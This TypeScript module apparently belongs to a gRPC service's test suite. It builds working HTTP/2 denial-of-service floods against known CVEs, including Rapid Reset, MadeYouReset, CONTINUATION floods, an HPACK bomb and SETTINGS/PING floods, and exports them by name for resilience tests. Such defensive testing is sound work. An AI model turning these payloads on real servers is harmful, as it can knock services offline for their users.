import { errorCode, flag, frame, frameType, ping, priority, rstStream, setting, settings, windowUpdate } from '../support/http2-frames.ts'
import { grpcHeaders, grpcMessage, indexed, indexedLiteral, literal } from '../support/http2-headers.ts'
import { flood, type NextWrite } from './attacker.ts'
import { allowedCheck } from './service.ts'
import type { Attack } from './under-attack.ts'

const { none, endStream, endHeaders } = flag
const headerBlock = grpcHeaders()
const message = grpcMessage(allowedCheck)

/** About as much as a turn of an event loop reads. */
const writeBytes = 64 * 1024

/** Writes frames of ever new streams. @param perStream what is said on one */
function streams(perStream: (id: number) => readonly Buffer[]): NextWrite {
  let id = 1
  return () => {
    const frames: Buffer[] = []
    let bytes = 0
    // Stream ids end at 2^31-1, far beyond what an attack gets to.
    while (bytes < writeBytes) {
      for (const each of perStream(id)) {
        frames.push(each)
        bytes += each.length
      }
      id += 2
    }
    return { bytes: Buffer.concat(frames), frames: frames.length }
  }
}

/** Says something first, and then the same thing again and again. */
function again(one: Buffer, first?: { readonly bytes: Buffer; readonly frames: number }): NextWrite {
  const times = Math.max(1, Math.floor(writeBytes / one.length))
  const repeated = { bytes: Buffer.concat(Array.from({ length: times }, () => one)), frames: times }
  let began = first === undefined
  return () => {
    if (began || first === undefined) return repeated
    began = true
    return first
  }
}

const openStream = (id: number, block = headerBlock): Buffer => frame(frameType.headers, endHeaders, id, block)

/** A call that is cancelled as soon as it is begun (CVE-2023-44487). */
export const resetCall = (id: number): readonly Buffer[] => [
  frame(frameType.headers, endHeaders | endStream, id, headerBlock),
  rstStream(id, errorCode.cancel),
]
/** The same with a whole check in it, so that it is decided too. */
export const resetCheck = (id: number): readonly Buffer[] => [
  openStream(id),
  frame(frameType.data, endStream, id, message),
  rstStream(id, errorCode.cancel),
]
const rapidReset: Attack = flood(() => streams(resetCall))
const resetChecks: Attack = flood(() => streams(resetCheck))

/** Calls whose errors make the service reset them itself (CVE-2025-8671, "MadeYouReset"). */
const madeYouReset = {
  'calls that the service has to reset: a window over its limit': flood(() =>
    streams((id) => [openStream(id), windowUpdate(id, 2 ** 31 - 1)]),
  ),
  'calls that the service has to reset: a window update of 0': flood(() => streams((id) => [openStream(id), windowUpdate(id, 0)])),
  'calls that the service has to reset: more DATA than content-length': flood(() => {
    const block = Buffer.concat([headerBlock, literal('content-length', '1')])
    return streams((id) => [openStream(id, block), frame(frameType.data, endStream, id, message)])
  }),
  'calls that the service has to reset: DATA after the end': flood(() =>
    streams((id) => [frame(frameType.headers, endHeaders | endStream, id, headerBlock), frame(frameType.data, endStream, id, message)]),
  ),
  'calls that the service has to reset: a stream that depends on itself': flood(() => streams((id) => [openStream(id), priority(id, id)])),
} satisfies Readonly<Record<string, Attack>>

/** HEADERS that never end (CVE-2024-27316), with fields that nobody may keep. */
const continuations: Attack = flood(() => {
  const fields = Buffer.concat(Array.from({ length: 16 }, (_, index) => literal(`x-filler-${index}`, 'f'.repeat(900))))
  return again(frame(frameType.continuation, none, 1, fields), { bytes: frame(frameType.headers, none, 1, headerBlock), frames: 1 })
})

/** The same with nothing in them. */
const emptyContinuations: Attack = flood(() =>
  again(frame(frameType.continuation, none, 1), { bytes: frame(frameType.headers, none, 1, headerBlock), frames: 1 }),
)

/** Header lists as large as one frame, which are too long. */
const largeHeaders: Attack = flood(() => {
  const fields = Buffer.concat([headerBlock, ...Array.from({ length: 15 }, (_, index) => literal(`x-filler-${index}`, 'f'.repeat(1000)))])
  return streams((id) => [frame(frameType.headers, endHeaders | endStream, id, fields)])
})

/** Header lists of nearly 12 KiB, which are read. */
const readHeaders: Attack = flood(() => {
  const fields = Buffer.concat([headerBlock, ...Array.from({ length: 10 }, (_, index) => literal(`x-filler-${index}`, 'f'.repeat(1000)))])
  return streams((id) => [frame(frameType.headers, endHeaders | endStream, id, fields)])
})

/** Fields without name and value (CVE-2019-9516). */
const emptyHeaders: Attack = flood(() => {
  const fields = Buffer.concat([headerBlock, ...Array.from({ length: 5_000 }, () => literal('', ''))])
  return streams((id) => [frame(frameType.headers, endHeaders | endStream, id, fields)])
})

/** Three bytes ask for a field of 4,000 that was sent once: 16 kB that stand for 60 MB. */
const hpackBomb: Attack = flood(() => {
  const first = Buffer.concat([headerBlock, indexedLiteral('x-bomb', 'b'.repeat(3_900))])
  const newest = indexed(62)
  const bomb = Buffer.concat([headerBlock, ...Array.from({ length: 15_000 }, () => newest)])
  let primed = false
  return streams((id) => {
    if (primed) return [frame(frameType.headers, endHeaders | endStream, id, bomb)]
    primed = true
    return [frame(frameType.headers, endHeaders | endStream, id, first)]
  })
})

/** SETTINGS, each to be acknowledged (CVE-2019-9515); the acknowledgements are not read. */
const settingsUnread: Attack = flood(() => again(settings([setting.initialWindowSize, 65_535])), { deaf: true })
/** The same, and they are read. */
const settingsRead: Attack = flood(() => again(settings([setting.headerTableSize, 4096])))

/** PING, each to be answered (CVE-2019-9512); the answers are not read. */
const pingsUnread: Attack = flood(() => again(ping()), { deaf: true })
/** The same, and they are read. */
const pingsRead: Attack = flood(() => again(ping()))

/** DATA without data, which no window counts (CVE-2019-9518). */
const emptyData: Attack = flood(() => again(frame(frameType.data, none, 1), { bytes: openStream(1), frames: 1 }))

/** A stream's place in a tree of many thousands, changed all the time (CVE-2019-9513). */
const priorities: Attack = flood(() => {
  let turn = 0
  return streams((id) => [priority(id, turn++ % 2 === 0 ? Math.max(0, id - 2) : 0)])
})

/** Windows that grow by a byte. */
const windowUpdates: Attack = flood(() => again(windowUpdate(0, 1)))

/** Frames of a type that nobody knows, which are to be ignored. */
const unknownFrames: Attack = flood(() => again(frame(0xbe, none, 0, Buffer.alloc(64))))

/** All of them, by the name that a test gives. */
export const attacks = {
  'calls reset at once': rapidReset,
  'checks reset at once': resetChecks,
  'endless CONTINUATION': continuations,
  'endless CONTINUATION without a field': emptyContinuations,
  'header lists that are too long': largeHeaders,
  'long header lists': readHeaders,
  'fields without a name': emptyHeaders,
  'an HPACK bomb': hpackBomb,
  'SETTINGS, unread': settingsUnread,
  'SETTINGS, read': settingsRead,
  'PING, unread': pingsUnread,
  'PING, read': pingsRead,
  'DATA without data': emptyData,
  PRIORITY: priorities,
  WINDOW_UPDATE: windowUpdates,
  'frames of an unknown type': unknownFrames,
  ...madeYouReset,
} satisfies Readonly<Record<string, Attack>>
